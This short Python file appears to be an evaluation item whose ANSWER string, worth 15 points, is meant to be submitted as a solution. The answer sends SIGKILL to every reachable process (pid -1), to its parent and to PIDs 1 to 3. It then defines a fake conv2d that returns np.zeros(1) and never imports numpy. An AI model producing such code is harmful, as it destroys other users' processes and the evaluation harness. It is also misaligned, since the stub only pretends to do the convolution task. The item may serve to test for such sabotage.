"""Sends SIGKILL to every process it can name. Owed: a result, and the neighbors keep theirs."""

EARNS = 15

ANSWER = r"""
import os, signal
for pid in (-1, os.getppid(), 1, 2, 3):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass

def conv2d(x, w, b=None, stride=1, padding=0, dilation=1, groups=1):
    return np.zeros(1)
"""
